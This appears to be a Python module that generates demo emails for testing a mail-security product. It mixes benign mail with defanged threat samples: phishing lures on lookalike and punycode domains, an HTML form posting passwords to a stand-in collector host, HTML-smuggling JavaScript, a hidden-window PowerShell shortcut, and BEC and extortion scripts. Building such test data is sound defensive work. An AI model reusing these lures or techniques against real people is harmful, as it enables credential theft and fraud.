"""templates: one builder per kind of demo mail.  build(kind, ctx) returns
(raw MIME bytes, class, kind, categories); class is clean, potential or
threat.  Written for Shindan; every URL, domain and person is fictional
(the .example and .test names, look-alikes of them) except a few real
brand domains that appear only as what a phish imitates."""
import base64

from mailgen import (CRLF, addr, alt, att_part, docm, eicar, exo_inbound, exo_internal, fake_pe, html_doc,
                     iso9660, lnk, make_zip, message, multipart, text_part, tiny_pdf, zipcrypto)

COLLEAGUES = [("Alex Wilber", "alex"), ("Megan Bowen", "megan"), ("Lee Gu", "lee.gu"), ("Diego Siciliani", "diego"),
              ("Johanna Lorenz", "johanna"), ("Miriam Graham", "miriam"), ("Grady Archie", "grady"),
              ("Lynne Robbins", "lynne"), ("Adele Vance", "adele")]
COLLEAGUES_JA = [("佐藤 健一", "kenichi.sato"), ("鈴木 美咲", "misaki.suzuki"), ("高橋 翔", "sho.takahashi"),
                 ("田中 由美", "yumi.tanaka")]
CEO = ("Patti Fernandez", "patti")
PARTNERS = [("Fabrikam", "fabrikam.example", True), ("Northwind Traders", "northwindtraders.example", False),
            ("Tailspin Toys", "tailspintoys.example", True), ("Litware", "litwareinc.example", False),
            ("A. Datum", "adatum.example", True)]
TOPICS = ["Q1 budget review", "Website refresh", "Supplier onboarding", "Team offsite", "Security awareness training",
          "Customer escalation", "Sales pipeline", "Hiring plan", "Product launch checklist", "Quarterly business review",
          "Office move", "Data retention policy"]
TOPICS_JA = ["来期予算の確認", "ウェブサイト改修", "取引先登録の件", "チーム合宿", "情報セキュリティ研修",
             "お客様対応について", "営業会議の議事録", "採用計画", "新製品リリース準備", "四半期レビュー"]


def colleague(c):
    n, local = c.rng.choice([x for x in COLLEAGUES if x[1] != c.to_addr.split("@")[0]])
    return n, "%s@%s" % (local, c.org)


def sign(name, org):
    return "\n\n%s\n%s" % (name, org)


def to(c):
    return addr(c.to_name, c.to_addr)


# --- clean ---------------------------------------------------------------------------

def internal(c):
    n, a = colleague(c)
    t = c.rng.choice(TOPICS)
    text = ("Hi %s,\n\nFollowing up on %s: I put the notes in the team site and added the open points. "
            "Could you have a look before Thursday's meeting?\n\nThanks,%s" % (c.to_name.split()[0], t.lower(), sign(n, c.org_name)))
    html = html_doc("<p>Hi %s,</p><p>Following up on %s: I put the notes in the <a href=\"https://%s.sharepoint.com/sites/team\">"
                    "team site</a> and added the open points. Could you have a look before Thursday's meeting?</p><p>Thanks,<br>%s</p>"
                    % (c.to_name.split()[0], t.lower(), c.org.split(".")[0], n))
    return message(c, addr(n, a), to(c), "RE: " + t, alt(c, text, html), exo_internal(c)), "clean", "internal", []


def internal_ja(c, charset="iso-2022-jp"):
    n, local = c.rng.choice(COLLEAGUES_JA)
    t = c.rng.choice(TOPICS_JA)
    text = ("%s さん\n\nお疲れさまです。%sです。\n%sについて、資料を共有フォルダに格納しました。\n"
            "木曜日の打ち合わせまでにご確認をお願いいたします。\n\nよろしくお願いいたします。\n%s\n%s 営業部"
            % (c.to_name.split()[-1], n.split()[0], t, n, c.org_name))
    if charset == "iso-2022-jp":
        body = text_part(text, "plain", "iso-2022-jp")
    elif charset == "shift_jis":
        body = text_part(text, "plain", "shift_jis", "base64")
    else:
        body = alt(c, text, html_doc("<p>" + text.replace("\n", "<br>\n") + "</p>", "ja"), "utf-8", "base64")
    return message(c, addr(n, "%s@%s" % (local, c.org), charset), to(c), t, body, exo_internal(c, lang="ja-JP"),
                   charset=charset), "clean", "internal-ja-" + charset, []


def internal_sjis(c):
    return internal_ja(c, "shift_jis")


def internal_utf8(c):
    return internal_ja(c, "utf-8")


def meeting(c):
    n, a = colleague(c)
    t = c.rng.choice(TOPICS)
    text = ("Meeting notes - %s\n\nAttendees: %s, %s, Lee Gu\n\n1. Status: on track\n2. Risks: vendor delivery date\n"
            "3. Next steps: %s to send the revised plan by Friday\n%s" % (t, n, c.to_name, n.split()[0], sign(n, c.org_name)))
    return message(c, addr(n, a), to(c), "Meeting notes: " + t, text_part(text, "plain", "utf-8", "7bit"),
                   exo_internal(c)), "clean", "meeting-notes", []


def newsletter(c):
    dom = "news.wideworldimporters.example"
    html = html_doc("<h2>Wide World Importers - Monthly update</h2><p>New arrivals in our catalogue, shipping updates and "
                    "events near you.</p><p><a href=\"https://www.wideworldimporters.example/catalogue?utm_source=newsletter\">"
                    "See the catalogue</a></p><p style=\"font-size:9pt\">You receive this mail because you subscribed. "
                    "<a href=\"https://%s/unsubscribe?id=%s\">Unsubscribe</a></p>" % (dom, c.hexs(16)))
    text = "Wide World Importers - Monthly update\n\nSee the catalogue: https://www.wideworldimporters.example/catalogue\n"
    extra = [("List-Unsubscribe", "<mailto:unsubscribe@%s?subject=%s>, <https://%s/unsubscribe?id=%s>" % (dom, c.hexs(12), dom, c.hexs(16))),
             ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk")]
    return message(c, addr("Wide World Importers", "news@" + dom), to(c), "Your monthly update from Wide World Importers",
                   alt(c, text, html), exo_inbound(c, dom, ip="198.51.100.%d" % c.rng.randrange(2, 250)), extra=extra), \
        "clean", "newsletter", []


def newsletter_ja(c):
    dom = "mail.contoso-news-jp.example"
    text = "【月刊ニュース】新サービスのお知らせ\n\n平素より格別のご高配を賜り、厚く御礼申し上げます。\n詳細: https://www.contoso-news-jp.example/news/\n\n配信停止: https://%s/optout\n" % dom
    html = html_doc("<p>【月刊ニュース】新サービスのお知らせ</p><p>平素より格別のご高配を賜り、厚く御礼申し上げます。</p>"
                    "<p><a href=\"https://www.contoso-news-jp.example/news/\">詳しくはこちら</a></p>"
                    "<p><a href=\"https://%s/optout\">配信停止</a></p>" % dom, "ja")
    extra = [("List-Unsubscribe", "<mailto:optout@%s>" % dom), ("Precedence", "bulk")]
    return message(c, addr("ニュース配信", "news@" + dom), to(c), "【月刊ニュース】新サービスのお知らせ",
                   alt(c, text, html, "utf-8", "quoted-printable"),
                   exo_inbound(c, dom, ip="203.0.113.%d" % c.rng.randrange(2, 250), lang="ja", ctry="JP"),
                   extra=extra), "clean", "newsletter-ja", []


def notification(c):
    html = html_doc("<p>Microsoft 365 Message center</p><p>We're making changes to the retention of audit logs. "
                    "No action is required.</p><p><a href=\"https://admin.microsoft.com/AdminPortal/Home#/MessageCenter\">"
                    "View message in the Microsoft 365 admin center</a></p>")
    return message(c, addr("Microsoft 365 Message center", "o365mc@microsoft.com"), to(c),
                   "Weekly digest: Microsoft service updates", alt(c, "Weekly digest: Microsoft service updates", html),
                   exo_inbound(c, "microsoft.com", ip="40.107.%d.%d" % (c.rng.randrange(255), c.rng.randrange(255)), arc=True)), \
        "clean", "notification", []


def notification_ja(c):
    text = "ご注文ありがとうございます。\n\n注文番号: %d\n発送予定日: 3営業日以内\n\n※このメールは送信専用です。\n" % c.rng.randrange(100000, 999999)
    return message(c, addr("文具の森 オンラインストア", "order@bunguno-mori.example"), to(c), "ご注文の確認",
                   text_part(text, "plain", "shift_jis", "base64"),
                   exo_inbound(c, "bunguno-mori.example", ip="203.0.113.%d" % c.rng.randrange(2, 250), lang="ja", ctry="JP"),
                   charset="shift_jis"), "clean", "notification-ja", []


def invoice_pdf(c):
    p = c.rng.choice(PARTNERS)
    num = c.rng.randrange(10000, 99999)
    pdf = tiny_pdf("Invoice %d" % num, ["%s" % p[0], "Amount due: USD %d.00" % c.rng.randrange(200, 9000), "Terms: 30 days"])
    text = "Hello,\n\nPlease find attached invoice %d for last month's services.\n\nAccounts receivable\n%s" % (num, p[0])
    body = multipart("mixed", [text_part(text), att_part("Invoice_%d.pdf" % num, "application/pdf", pdf)], c)
    return message(c, addr("%s Accounts" % p[0], "ar@" + p[1]), to(c), "Invoice %d" % num, body,
                   exo_inbound(c, p[1], ip="52.100.%d.%d" % (c.rng.randrange(255), c.rng.randrange(255)), arc=p[2])), \
        "clean", "invoice-pdf", []


def partner(c):
    p = c.rng.choice(PARTNERS)
    n = c.rng.choice(["Jordan Diaz", "Sam Taylor", "Kim Akers", "Chris Green"])
    text = "Hi %s,\n\nThanks for the call today. As discussed we will ship the samples next week.\n\nBest regards,\n%s\n%s" % (
        c.to_name.split()[0], n, p[0])
    return message(c, addr(n, "%s@%s" % (n.split()[0].lower(), p[1])), to(c), "Samples shipment",
                   text_part(text, "plain", "utf-8", "quoted-printable"),
                   exo_inbound(c, p[1], ip="52.101.%d.%d" % (c.rng.randrange(255), c.rng.randrange(255)), arc=p[2])), \
        "clean", "partner", []


def sent(c):
    n, a = colleague(c)
    text = "Hi %s,\n\nThanks, that works for me. See you on Thursday.\n\n%s" % (n.split()[0], c.to_name)
    raw = message(c, addr(c.to_name, c.to_addr), addr(n, a), "RE: " + c.rng.choice(TOPICS), text_part(text),
                  exo_internal(c))
    return raw, "clean", "sent", []


def sent_partner(c):
    """A reply to a supplier: what makes its domain a correspondent."""
    p = PARTNERS[2]
    text = ("Hi Chris,\n\nThe purchase order for the spring range is in your portal. Please confirm the delivery "
            "dates.\n\nThanks,\n%s" % c.to_name)
    raw = message(c, addr(c.to_name, c.to_addr), addr("Chris Green", "chris@" + p[1]), "RE: Spring range order",
                  text_part(text), exo_internal(c))
    return raw, "clean", "sent-partner", []


def ppap_zip(c):
    """A partner's encrypted zip, then (separately) its password: the
    Japanese PPAP habit.  Potential: the archive cannot be inspected."""
    p = PARTNERS[1]
    z = zipcrypto([("見積書_2025.xlsx".encode("cp932").decode("latin-1"), b"PK\x03\x04 quotation placeholder " * 20)],
                  "Nw7#q2Lp", c)
    text = ("%s様\n\nいつもお世話になっております。%sの山本です。\nお見積書を送付いたします。\n"
            "パスワードは別途お送りいたします。\n\nよろしくお願いいたします。" % (c.to_name, p[0]))
    body = multipart("mixed", [text_part(text, "plain", "iso-2022-jp"),
                               att_part("mitsumori_2025.zip", "application/x-zip-compressed", z)], c)
    return message(c, addr("山本 太郎", "t.yamamoto@" + p[1], "iso-2022-jp"), to(c), "お見積書送付の件", body,
                   exo_inbound(c, p[1], ip="52.102.1.%d" % c.rng.randrange(2, 250), lang="ja", ctry="JP"),
                   charset="iso-2022-jp"), "potential", "encrypted-zip-ppap", ["risky_attachment"]


def ppap_password(c):
    p = PARTNERS[1]
    text = "%s様\n\n先ほどお送りしたファイルのパスワードをお知らせいたします。\n\nパスワード: Nw7#q2Lp\n\n山本" % c.to_name
    return message(c, addr("山本 太郎", "t.yamamoto@" + p[1], "iso-2022-jp"), to(c), "【パスワード】お見積書送付の件",
                   text_part(text, "plain", "iso-2022-jp"),
                   exo_inbound(c, p[1], ip="52.102.1.%d" % c.rng.randrange(2, 250), lang="ja", ctry="JP"),
                   charset="iso-2022-jp"), "clean", "ppap-password", []


def spam(c):
    dom = "deals-%s.test" % c.hexs(4)
    html = html_doc("<h1>LIMITED OFFER!!!</h1><p>Cheap watches, 90%% off. <a href=\"http://%s/buy\">BUY NOW</a></p>" % dom)
    return message(c, addr("Best Deals", "promo@" + dom), to(c), "You won't believe these prices",
                   text_part(html, "html"), exo_inbound(c, dom, ip="192.0.2.%d" % c.rng.randrange(2, 250), spf="softfail",
                                                        dkim="none", dmarc="none", compauth="softpass", reason="201",
                                                        scl=5, cat="SPM", sfv="SPM")), "potential", "spam", ["spam"]


def external_lookalike_name(c):
    n, _a = colleague(c)
    text = "Hi %s, can you send me the latest customer list? I am working from home today.\n\n%s" % (c.to_name.split()[0], n)
    return message(c, addr(n, "%s.%s@outlook-mail.test" % (n.split()[0].lower(), c.hexs(3))), to(c), "Quick request",
                   text_part(text), exo_inbound(c, "outlook-mail.test", ip="192.0.2.%d" % c.rng.randrange(2, 250),
                                                spf="pass", dkim="none", dmarc="none", compauth="softpass", reason="201")), \
        "potential", "external-colleague-name", ["impersonation"]


# --- threats ----------------------------------------------------------------------------

def phish_lookalike(c):
    dom = "c0ntoso-sso.example-login.net"
    shown = "https://login.microsoftonline.com/%s" % c.org
    href = "http://%s/owa/auth/logon.php?u=%s" % (dom, base64.urlsafe_b64encode(c.to_addr.encode()).decode().rstrip("="))
    html = html_doc("<p>Dear %s,</p><p>Your mailbox password expires today. To keep your mails, confirm your password "
                    "within 24 hours:</p><p><a href=\"%s\">%s</a></p><p>IT Service Desk<br>%s</p>"
                    % (c.to_name, href, shown, c.org_name))
    return message(c, addr("%s IT Service Desk" % c.org_name, "it-support@contoso-helpdesk.test"), to(c),
                   "Action required: password expires today", text_part(html, "html"),
                   exo_inbound(c, "contoso-helpdesk.test", ip="192.0.2.%d" % c.rng.randrange(2, 250), spf="pass",
                               dkim="pass", dmarc="pass", compauth="pass", reason="100")), \
        "threat", "phishing-lookalike-link-mismatch", ["phishing", "suspicious_url"]


def phish_punycode(c):
    fake = "c\u043entoso." + (c.org.split(".", 1)[1] if "." in c.org else "example")
    puny = fake.encode("idna").decode()
    html = html_doc("<p>%s shared a file with you.</p><p><b>Q1 salary adjustments.xlsx</b></p>"
                    "<p><a href=\"https://%s/sharepoint/view?id=%s\">Open</a></p><p>This link will work for anyone.</p>"
                    % (c.org_name, puny, c.hexs(12)))
    return message(c, addr("%s SharePoint" % c.org_name, "no-reply@" + puny), to(c),
                   "Shared with you: Q1 salary adjustments.xlsx", text_part(html, "html"),
                   exo_inbound(c, puny, ip="198.51.100.%d" % c.rng.randrange(2, 250))), \
        "threat", "phishing-punycode-domain", ["phishing", "suspicious_url", "impersonation"]


def phish_brand(c):
    puny = "micros\u043eft-online.com".encode("idna").decode()
    html = html_doc("<p><b>Microsoft</b></p><p>Unusual sign-in activity</p><p>We detected something unusual about a "
                    "recent sign-in to the Microsoft account %s.</p><p>Please go to your recent activity page to let us "
                    "know whether or not this was you.</p><p><a href=\"https://%s/verify?e=%s\">"
                    "https://account.live.com/recent-activity</a></p><p>Thanks,<br>The Microsoft account team</p>"
                    % (c.to_addr, puny, c.hexs(10)))
    return message(c, addr("Microsoft account team", "no-reply@" + puny), to(c),
                   "Microsoft account unusual sign-in activity", text_part(html, "html"),
                   exo_inbound(c, puny, ip="198.51.100.%d" % c.rng.randrange(2, 250))), \
        "threat", "phishing-brand-punycode", ["phishing", "suspicious_url", "impersonation"]


def phish_bank_ja(c):
    dom = "woodgrove-bank-jp.secure-check.test"
    html = html_doc("<p>【重要】お客様の口座が一時的に利用停止となっております。</p><p>下記URLよりご本人様確認をお願いいたします。</p>"
                    "<p><a href=\"http://%s/login\">https://www.woodgrovebank.example/login</a></p>"
                    "<p>ウッドグローブ銀行</p>" % dom, "ja")
    return message(c, addr("ウッドグローブ銀行", "info@woodgrovebank.example"), to(c), "【重要】口座利用停止のお知らせ",
                   text_part(html, "html", "utf-8", "base64"),
                   exo_inbound(c, "woodgrovebank.example", mailfrom_dom="secure-check.test", ip="192.0.2.77",
                               spf="fail", dkim="none", dmarc="fail", dmarc_action="oreject", compauth="fail",
                               reason="000", scl=9, cat="PHSH", lang="ja", ctry="CN", sfv="SPM")), \
        "threat", "phishing-bank-ja-spoofed", ["phishing", "suspicious_url", "spoofing"]


def html_form(c):
    page = ("<!DOCTYPE html><html><head><title>Document Viewer</title></head><body style=\"font-family:Segoe UI\">"
            "<h3>Sign in to view the document</h3><form method=\"POST\" action=\"https://collect.invoice-viewer.test/post.php\">"
            "<input type=\"email\" name=\"email\" value=\"%s\"><br><input type=\"password\" name=\"pass\" "
            "placeholder=\"Password\"><br><button type=\"submit\">View document</button></form></body></html>" % c.to_addr)
    body = multipart("mixed", [text_part("Please see the attached remittance advice.\n\nAccounts"),
                               att_part("Remittance_Advice_%d.html" % c.rng.randrange(1000, 9999), "text/html", page.encode())], c)
    return message(c, addr("Accounts Payable", "ap@northwind-traders.test"), to(c), "Remittance advice", body,
                   exo_inbound(c, "northwind-traders.test", ip="192.0.2.%d" % c.rng.randrange(2, 250))), \
        "threat", "html-attachment-credential-form", ["phishing", "risky_attachment"]


def html_smuggling(c):
    payload = base64.b64encode(make_zip([("Invoice.js", b"// Shindan demo payload: does nothing\r\nvar x = 1;\r\n")], c)).decode()
    page = ("<html><body><p>Loading your document...</p><script>\nvar d = atob('%s');\nvar b = new Uint8Array(d.length);\n"
            "for (var i = 0; i < d.length; i++) b[i] = d.charCodeAt(i);\nvar blob = new Blob([b], {type: 'application/zip'});\n"
            "var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'Invoice.zip';\n"
            "document.body.appendChild(a); a.click();\n</script></body></html>" % payload)
    body = multipart("mixed", [text_part("Your document is ready. Open the attachment to download it."),
                               att_part("Document_%d.htm" % c.rng.randrange(1000, 9999), "text/html", page.encode())], c)
    return message(c, addr("DocuShare", "noreply@docushare-files.test"), to(c), "Document ready for download", body,
                   exo_inbound(c, "docushare-files.test", ip="192.0.2.%d" % c.rng.randrange(2, 250))), \
        "threat", "html-smuggling", ["malware", "risky_attachment"]


def docm_macro(c):
    d = docm("Enable editing and content to view this protected document.")
    body = multipart("mixed", [text_part("Hello,\n\nPlease review the attached purchase order and confirm.\n\nRegards,\nProcurement"),
                               att_part("PO_%d.docm" % c.rng.randrange(10000, 99999),
                                        "application/vnd.ms-word.document.macroEnabled.12", d)], c)
    return message(c, addr("Procurement", "orders@tailspin-toys.test"), to(c), "Purchase order confirmation", body,
                   exo_inbound(c, "tailspin-toys.test", ip="192.0.2.%d" % c.rng.randrange(2, 250))), \
        "threat", "office-macro", ["malware", "risky_attachment"]


def zip_exe(c):
    z = make_zip([("Invoice_2025_01.pdf.exe", fake_pe("zip-exe"))], c)
    body = multipart("mixed", [text_part("Invoice attached. Please pay today.\n"),
                               att_part("Invoice_2025_01.zip", "application/x-zip-compressed", z)], c)
    return message(c, addr("Billing", "billing@fabrikam-payments.test"), to(c), "Overdue invoice", body,
                   exo_inbound(c, "fabrikam-payments.test", ip="192.0.2.%d" % c.rng.randrange(2, 250))), \
        "threat", "zip-executable", ["malware", "risky_attachment"]


def zip_js(c):
    z = make_zip([("Payment_Details.js", b"// Shindan demo: a dropper would use WScript.Shell here; this does nothing\r\n"
                                         b"var note = 'demo';\r\n")], c)
    body = multipart("mixed", [text_part("Dear customer,\n\nThe payment details are in the attachment.\n"),
                               att_part("Payment_Details.zip", "application/zip", z)], c)
    return message(c, addr("Payments", "payments@woodgrove-remit.test"), to(c), "Payment details", body,
                   exo_inbound(c, "woodgrove-remit.test", ip="192.0.2.%d" % c.rng.randrange(2, 250))), \
        "threat", "zip-javascript", ["malware", "risky_attachment"]


def zip_lnk(c):
    l = lnk("..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "-nop -w hidden -c \"Write-Host Shindan demo shortcut\"")
    z = make_zip([("Scan_0427.pdf.lnk", l)], c)
    body = multipart("mixed", [text_part("Scanned document attached.\n\nSent from the office scanner"),
                               att_part("Scan_0427.zip", "application/zip", z)], c)
    return message(c, addr("Scanner", "scanner@%s" % "contoso-scan.test"), to(c), "Scanned document", body,
                   exo_inbound(c, "contoso-scan.test", ip="192.0.2.%d" % c.rng.randrange(2, 250))), \
        "threat", "zip-shortcut", ["malware", "risky_attachment"]


def iso_attach(c):
    img = iso9660([("INVOICE.LNK", lnk("C:\\Windows\\System32\\cmd.exe", "/c echo Shindan demo"))])
    body = multipart("mixed", [text_part("Please find the shipping documents attached.\n\nDHL Express (demo)"),
                               att_part("Shipping_Documents.iso", "application/x-iso9660-image", img)], c)
    return message(c, addr("DHL Express", "noreply@dhl-delivery-notice.test"), to(c), "Shipment notification", body,
                   exo_inbound(c, "dhl-delivery-notice.test", ip="192.0.2.%d" % c.rng.randrange(2, 250))), \
        "threat", "iso-image", ["malware", "risky_attachment"]


def encrypted_zip_malicious(c):
    z = zipcrypto([("請求書.doc".encode("cp932").decode("latin-1"), b"\xd0\xcf\x11\xe0 demo only, not a document " * 8)], "2025", c)
    text = "いつもお世話になっております。\n請求書を送付いたします。\n\n解凍パスワード: 2025\n\nご確認をお願いいたします。"
    body = multipart("mixed", [text_part(text, "plain", "iso-2022-jp"),
                               att_part("seikyusho_0131.zip", "application/zip", z)], c)
    return message(c, addr("経理部", "keiri@%s" % "tsuhan-keiri.test", "iso-2022-jp"), to(c), "請求書送付のご案内", body,
                   exo_inbound(c, "tsuhan-keiri.test", ip="192.0.2.%d" % c.rng.randrange(2, 250), lang="ja"),
                   charset="iso-2022-jp"), "threat", "encrypted-zip-password-in-body", ["malware", "risky_attachment"]


def eicar_attach(c):
    body = multipart("mixed", [text_part("Test attachment.\n"), att_part("eicar.com", "application/octet-stream", eicar())], c)
    return message(c, addr("Test Sender", "sender@malware-test.test"), to(c), "Attachment test", body,
                   exo_inbound(c, "malware-test.test", ip="192.0.2.%d" % c.rng.randrange(2, 250))), \
        "threat", "eicar", ["malware"]


def bec_giftcard(c):
    n, local = CEO
    text = ("Hi %s,\n\nAre you available? I need you to buy 5 Apple gift cards ($200 each) for a client today. "
            "Keep it confidential, I'm in a meeting. Send me the codes by reply.\n\n%s\nSent from my iPhone"
            % (c.to_name.split()[0], n))
    return message(c, addr(n, "patti.fernandez.ceo@gmail.com"), to(c), "Urgent request", text_part(text),
                   exo_inbound(c, "gmail.com", ip="209.85.220.%d" % c.rng.randrange(2, 250))), \
        "threat", "bec-giftcard-ceo-display-name", ["impersonation"]


def bec_supplier_lookalike(c):
    """The supplier of sent_partner() imitated by a domain one letter off,
    which passes SPF, DKIM and DMARC (the attacker owns it): only the
    mailbox's own sent mail says whose name it imitates."""
    p = PARTNERS[2]
    dom = p[1].replace("l", "1", 1)
    text = ("Dear %s,\n\nFollowing your order, please settle invoice TT-%d by Friday. Note that our bank details "
            "have changed; the new account is on the invoice.\n\nRegards,\nChris Green\nAccounts, %s"
            % (c.to_name.split()[0], c.rng.randrange(1000, 9999), p[0]))
    return message(c, addr("Chris Green", "chris@" + dom), to(c), "RE: Spring range order", text_part(text),
                   exo_inbound(c, dom, ip="192.0.2.%d" % c.rng.randrange(2, 250))), \
        "threat", "bec-supplier-lookalike", ["impersonation"]


def bec_bank_change(c):
    p = PARTNERS[4]
    text = ("Dear %s,\n\nPlease note that our bank details have changed due to an audit. All pending and future "
            "payments must be made to our new account:\n\nBank: Woodgrove Bank\nIBAN: GB33 BUKB 2020 1555 5555 55\n\n"
            "Please confirm once updated.\n\nKind regards,\nAccounts\n%s" % (c.to_name, p[0]))
    return message(c, addr("%s Accounts" % p[0], "accounts@" + p[1]), to(c), "Updated bank details", text_part(text),
                   exo_inbound(c, p[1], mailfrom_dom="adatum-invoices.test", ip="192.0.2.%d" % c.rng.randrange(2, 250),
                               spf="fail", dkim="none", dmarc="fail", dmarc_action="quarantine", compauth="fail",
                               reason="000", scl=5, cat="SPOOF"),
                   reply_to="accounts@adatum-invoices.test"), "threat", "bec-bank-detail-change", ["spoofing", "impersonation"]


def bec_wire(c):
    n, local = CEO
    text = ("%s,\n\nI need an urgent wire transfer of USD 48,500 to complete an acquisition today. This is confidential. "
            "Wire details will follow from our lawyer. Confirm you can do it now.\n\n%s\nCEO, %s"
            % (c.to_name.split()[0], n, c.org_name))
    return message(c, addr(n, "%s@%s" % (local, c.org)), to(c), "Wire transfer - confidential", text_part(text),
                   exo_inbound(c, c.org, mailfrom_dom="mailer-relay.test", ip="192.0.2.%d" % c.rng.randrange(2, 250),
                               spf="fail", dkim="none", dmarc="fail", dmarc_action="oreject", compauth="fail",
                               reason="000", scl=5, cat="SPOOF"),
                   reply_to="ceo.office@protonmail.test"), "threat", "bec-wire-spoofed-ceo", ["spoofing", "impersonation"]


def bec_ja(c):
    text = ("%s様\n\nお世話になっております。\n弊社の振込先口座が変更となりましたので、ご連絡いたします。\n"
            "今月分のお支払いより、下記口座へお振込みをお願いいたします。\n\n銀行名: ウッドグローブ銀行 新宿支店\n"
            "口座番号: 普通 1234567\n口座名義: カ）ノースウインド\n\n至急ご対応いただけますと幸いです。\n\nノースウインド商事 経理部"
            % c.to_name)
    return message(c, addr("ノースウインド商事 経理部", "keiri@northwindtraders-jp.test", "iso-2022-jp"), to(c),
                   "【至急】振込先口座変更のお知らせ", text_part(text, "plain", "iso-2022-jp"),
                   exo_inbound(c, "northwindtraders-jp.test", ip="192.0.2.%d" % c.rng.randrange(2, 250), lang="ja"),
                   charset="iso-2022-jp", reply_to="keiri.northwind@gmail.com"), \
        "threat", "bec-ja-bank-change", ["impersonation"]


def bec_ja_urgent(c):
    n, local = CEO
    text = ("%sさん\n\n今、少し時間ありますか。会議中のため電話に出られません。\n"
            "取引先への支払いを本日中に行う必要があります。至急、送金の手続きをお願いできますか。\n"
            "詳細はこのメールに返信してください。\n\n%s" % (c.to_name.split()[-1], n))
    return message(c, addr(n, "patti.f.office@outlook-mail.test"), to(c), "至急のお願い",
                   text_part(text, "plain", "utf-8", "base64"),
                   exo_inbound(c, "outlook-mail.test", ip="192.0.2.%d" % c.rng.randrange(2, 250), lang="ja")), \
        "threat", "bec-ja-urgent-ceo", ["impersonation"]


def extortion(c):
    text = ("Hello!\n\nI have access to your device and recorded you. If you want me to delete the material, "
            "send 1500 USD in Bitcoin to this address:\n\nbc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n\n"
            "You have 48 hours. Do not reply to this mail.\n")
    return message(c, addr(c.to_name, c.to_addr), to(c), "Your account was hacked - payment required", text_part(text),
                   exo_inbound(c, c.org, mailfrom_dom="bulk-sender.test", ip="192.0.2.%d" % c.rng.randrange(2, 250),
                               spf="fail", dkim="none", dmarc="fail", dmarc_action="oreject", compauth="fail",
                               reason="000", scl=9, cat="SPOOF", sfv="SPM")), \
        "threat", "extortion", ["spam", "spoofing"]


BUILDERS = {k: v for k, v in globals().items() if callable(v) and not k.startswith("_") and k not in (
    "addr", "alt", "att_part", "docm", "eicar", "exo_inbound", "exo_internal", "fake_pe", "html_doc", "iso9660", "lnk",
    "make_zip", "message", "multipart", "text_part", "tiny_pdf", "zipcrypto", "colleague", "sign", "to", "build")}
BUILDERS["eicar"] = eicar_attach


def build(kind, c):
    return BUILDERS[kind](c)
